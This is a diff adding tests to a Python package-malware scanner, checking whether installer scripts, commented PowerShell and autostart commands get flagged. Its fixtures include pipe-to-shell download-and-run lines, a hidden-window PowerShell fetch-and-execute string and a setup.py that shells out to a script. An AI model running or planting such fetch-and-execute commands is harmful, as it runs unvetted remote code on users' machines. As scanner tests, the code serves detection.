@@ -129,3 +129,59 @@ def test_developer_tools_that_read_config_are_not_stealers() -> None:
         "env = {**os.environ, 'A': '1'}\n"
     )
     assert strong(scan({"pkg-1.0/pkg/conn.py": code})) == []
+
+
+_INSTALLER_SH = (
+    "#!/bin/sh\nset -eu\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nuv tool install app\n"
+)
+_INSTALLER_PS1 = (
+    "# Install: powershell -ExecutionPolicy ByPass -c \"irm https://example.org/i.ps1 | iex\"\n"
+    "Invoke-RestMethod https://astral.sh/uv/install.ps1 | Invoke-Expression\n"
+)
+
+
+def test_a_projects_own_installer_scripts_beside_its_build_file_are_tooling() -> None:
+    # pip installs the packages of an sdist, never the scripts at its top; a README that
+    # tells a person to run them is no reference.
+    files = {
+        "app-1.0/pyproject.toml": "[project]\nname = 'app'\n",
+        "app-1.0/README.md": "curl -LsSf https://example.org/install.sh | sh\n",
+        "app-1.0/install.sh": _INSTALLER_SH,
+        "app-1.0/install.ps1": _INSTALLER_PS1 + "# see install.sh for Unix\n",
+        "app-1.0/app/__init__.py": "VERSION = '1.0'\n",
+    }
+    assert scan(files) == []
+
+
+def test_a_top_level_script_that_code_or_a_build_file_names_is_still_read() -> None:
+    by_setup = {
+        "app-1.0/setup.py": "import os\nos.system('sh install.sh')\n",
+        "app-1.0/install.sh": _INSTALLER_SH,
+    }
+    by_script = {  # named by a named script
+        "package/package.json": json.dumps({"name": "app", "scripts": {"test": "sh run.sh"}}),
+        "package/run.sh": "sh ./fetch.sh\n",
+        "package/fetch.sh": _INSTALLER_SH,
+    }
+    assert {(s.path, s.kind) for s in scan(by_setup)} >= {
+        ("app-1.0/install.sh", SignalKind.DOWNLOAD_EXEC)}
+    assert ("package/fetch.sh", SignalKind.DOWNLOAD_EXEC) in {
+        (s.path, s.kind) for s in scan(by_script, Ecosystem.NPM)}
+
+
+def test_commented_out_powershell_is_no_powershell() -> None:
+    ps1 = "# powershell -w hidden -c \"iwr https://example.org/x | iex\"\nWrite-Host done\n"
+    assert scan({"pkg/tools/win.ps1": ps1}) == []
+    live = scan({"pkg/tools/win.ps1": ps1.lstrip("# ")})
+    assert [s.kind for s in live] == [SignalKind.POWERSHELL_SUSPICIOUS]
+
+
+def test_an_autostart_command_in_a_catalogue_of_fixes_is_advice() -> None:
+    # A remediation catalogue bundled as JavaScript that starts no process; the same line
+    # handed to a shell, or a unit file written by path, is persistence.
+    catalogue = ('export const FIXES = [{id: "ntp", command: '
+                 '"sudo apt-get install -y chrony && sudo systemctl enable --now chrony"}];\n')
+    run = "const cp = require('child_process');\n" + catalogue + "cp.execSync(FIXES[0].command);\n"
+    assert scan({"package/fixes.mjs": catalogue}, Ecosystem.NPM) == []
+    found = scan({"package/fixes.mjs": run}, Ecosystem.NPM)
+    assert SignalKind.PERSISTENCE in {s.kind for s in found}
